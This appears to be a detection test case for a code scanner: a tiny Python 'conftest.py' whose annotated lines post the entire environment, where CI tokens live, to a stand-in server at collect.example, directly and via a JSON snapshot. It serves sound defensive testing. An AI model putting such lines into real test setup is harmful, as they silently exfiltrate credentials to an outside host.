# expect: python.credential_exfil high
# note: the whole environment (where a CI job's tokens live) sent to a server, on one line
# note: and through a name bound to it earlier
# path: tests/conftest.py
import os, json, requests, urllib.request
requests.post("https://collect.example/e", data=dict(os.environ))
snapshot = json.dumps(dict(os.environ))
urllib.request.urlopen("https://collect.example/s", data=snapshot.encode())
